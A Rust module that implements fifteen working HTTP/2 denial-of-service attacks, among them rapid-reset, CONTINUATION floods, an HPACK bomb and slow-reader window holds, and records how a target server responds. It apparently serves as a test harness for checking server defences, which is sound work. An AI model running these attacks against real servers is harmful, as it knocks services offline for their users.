//! Attacks on servers of HTTP/2 that cost the attacker little: one connection each, as fast as it goes.
//!
//! Depends on nothing but the standard library and `wire.rs` beside it (as `super::h2_wire`).

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use super::h2_wire::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GO_AWAY, HEADERS, INITIAL_WINDOW, PING,
    PRIORITY, RESET, SETTINGS, block, first_frame, frame, head, opening, put_length, request,
    window_update,
};

/// What is said over and over.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    settings: &'static [(u16, u32)],
    /// Said once, behind the preface.
    first: fn() -> Vec<u8>,
    /// Said then, so many times; the number counts from 0.
    next: fn(u32) -> Vec<u8>,
    pub(crate) times: u32,
    /// Whether the attacker reads what it is told meanwhile.
    reads: bool,
    /// Whether it stays when it has said all.
    pub(crate) stays: bool,
}

/// What came of it.
#[derive(Debug)]
pub(crate) struct Seen {
    /// How often the repeated part went out, until it ended or the server took no more.
    pub(crate) times: u32,
    /// The reason in GOAWAY (RFC 9113 §7).
    pub(crate) go_away: Option<u32>,
    /// The server ended the connection.
    pub(crate) is_closed: bool,
    /// What keeps the connection open.
    pub(crate) stream: TcpStream,
}

/// By what it costs the server: work, then memory.
pub(crate) const ATTACKS: [Attack; 15] = [
    Attack {
        next: |at| [get(at, "/small"), frame(RESET, 0, id(at), &8_u32.to_be_bytes())].concat(),
        ..flood("rapid-reset")
    },
    // The server resets each itself: a window that opens by nothing is an error of the stream.
    Attack {
        next: |at| [get(at, "/small"), window_update(id(at), 0)].concat(),
        ..flood("made-you-reset")
    },
    Attack {
        first: || frame(HEADERS, END_STREAM, 1, &block(request("GET", "/small"))),
        next: |_| frame(CONTINUATION, 0, 1, &block([(&b"x-a"[..], &[b'y'; 8000][..])])),
        times: 10_000,
        ..flood("continuation")
    },
    Attack {
        first: || frame(HEADERS, END_STREAM, 1, &block(request("GET", "/small"))),
        next: |_| frame(CONTINUATION, 0, 1, &[]),
        ..flood("continuation-empty")
    },
    Attack { next: |_| frame(SETTINGS, 0, 0, &[]), reads: false, ..flood("settings-unread") },
    Attack { next: |_| frame(SETTINGS, 0, 0, &[]), ..flood("settings") },
    Attack { next: |_| frame(PING, 0, 0, b"attacker"), reads: false, ..flood("ping-unread") },
    Attack { next: |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]), ..flood("priority") },
    Attack {
        first: || head(1, "POST", "/small", false),
        next: |_| frame(DATA, 0, 1, &[]),
        ..flood("data-empty")
    },
    Attack { first: || get(0, "/small"), next: |_| window_update(0, 1), ..flood("window-update") },
    // One field of 4,000 bytes, and requests that name it 16,000 times in as many bytes.
    Attack {
        first: || {
            let mut bomb = vec![0x40];
            put_length(&mut bomb, 4);
            bomb.extend_from_slice(b"bomb");
            put_length(&mut bomb, 4000);
            bomb.extend_from_slice(&[b'x'; 4000]);
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                1,
                &[block(request("GET", "/small")), bomb].concat(),
            )
        },
        next: |at| {
            let block = [block(request("GET", "/small")), vec![0xbe; 16_000]].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, id(at + 1), &block)
        },
        times: 1000,
        ..flood("hpack-bomb")
    },
    Attack {
        settings: &[(INITIAL_WINDOW, 0)],
        next: |at| get(at, "/large"),
        times: 100,
        ..hold("zero-window")
    },
    Attack {
        settings: &[(INITIAL_WINDOW, 1)],
        first: || get(0, "/large"),
        next: |_| window_update(1, 1),
        times: 20_000,
        ..hold("tiny-window")
    },
    Attack {
        settings: &[(INITIAL_WINDOW, (1 << 31) - 1)],
        first: || window_update(0, 1 << 30),
        next: |at| get(at, "/large"),
        reads: false,
        ..hold("slow-reader")
    },
    Attack {
        next: |at| [head(id(at), "POST", "/small", false), frame(DATA, 0, id(at), b"x")].concat(),
        ..hold("never-ends")
    },
];

const fn flood(name: &'static str) -> Attack {
    Attack {
        name,
        settings: &[],
        first: Vec::new,
        next: |_| Vec::new(),
        times: 100_000,
        reads: true,
        stays: false,
    }
}

/// A thousand streams that stay, on a connection that nothing is wrong with.
const fn hold(name: &'static str) -> Attack {
    Attack { times: 1000, stays: true, ..flood(name) }
}

/// The number of a stream, of those counted from 0.
const fn id(at: u32) -> u32 {
    2 * at + 1
}

fn get(at: u32, path: &str) -> Vec<u8> {
    head(id(at), "GET", path, true)
}

/// Attacks a server, until it ends the connection, takes nothing more for a while, or all is said and read.
pub(crate) fn run(attack: &Attack, to: SocketAddr) -> std::io::Result<Seen> {
    let mut stream = TcpStream::connect(to)?;
    stream.set_nodelay(true)?;
    stream.set_write_timeout(Some(STUCK))?;
    stream.set_read_timeout(Some(STUCK))?;
    let is_all_said = AtomicBool::new(false);
    let reader = stream.try_clone()?;
    let (times, (go_away, is_closed)) = std::thread::scope(|scope| {
        let listens = attack.reads.then(|| scope.spawn(|| listen(&reader, &is_all_said)));
        let times = say(attack, &mut stream);
        is_all_said.store(true, Ordering::Relaxed);
        let heard = match listens {
            Some(listens) => listens.join().unwrap_or_default(),
            // It is about what is never read.
            None if attack.stays => (None, false),
            None => listen(&reader, &is_all_said),
        };
        (times, heard)
    });
    Ok(Seen { times, go_away, is_closed, stream })
}

/// How often the repeated part went out.
fn say(attack: &Attack, stream: &mut TcpStream) -> u32 {
    let mut bytes = opening(attack.settings);
    bytes.extend(frame(SETTINGS, ACK, 0, &[]));
    bytes.extend((attack.first)());
    for at in 0..attack.times {
        bytes.extend((attack.next)(at));
        if bytes.len() >= 32 * 1024 {
            if stream.write_all(&bytes).is_err() {
                return at;
            }
            bytes.clear();
        }
    }
    // Its answer comes when all before it has been read.
    bytes.extend(frame(PING, 0, 0, b"question"));
    let _ = stream.write_all(&bytes);
    attack.times
}

/// Reads until the server closes, answers the last PING, or says nothing for a while after all was said.
fn listen(mut stream: &TcpStream, is_all_said: &AtomicBool) -> (Option<u32>, bool) {
    let (mut go_away, mut received, mut chunk) = (None, Vec::new(), vec![0; 64 * 1024]);
    loop {
        match stream.read(&mut chunk) {
            Ok(length @ 1..) => received.extend_from_slice(&chunk[..length]),
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                if is_all_said.load(Ordering::Relaxed) {
                    return (go_away, false);
                }
                continue;
            }
            Ok(0) | Err(_) => return (go_away, true),
        }
        let mut at = 0;
        while let Some((kind, flags, _, payload)) = first_frame(&received[at..]) {
            at += 9 + payload.len();
            match kind {
                GO_AWAY => {
                    let code = payload.get(4..).and_then(|code| code.first_chunk());
                    // The first says why; more may follow in good order.
                    go_away = go_away.or_else(|| code.map(|code| u32::from_be_bytes(*code)));
                }
                PING if flags & ACK != 0 && payload == b"question" => return (go_away, false),
                _ => {}
            }
        }
        received.drain(..at);
    }
}

/// For so long a server may take nothing or say nothing.
const STUCK: Duration = Duration::from_secs(5);
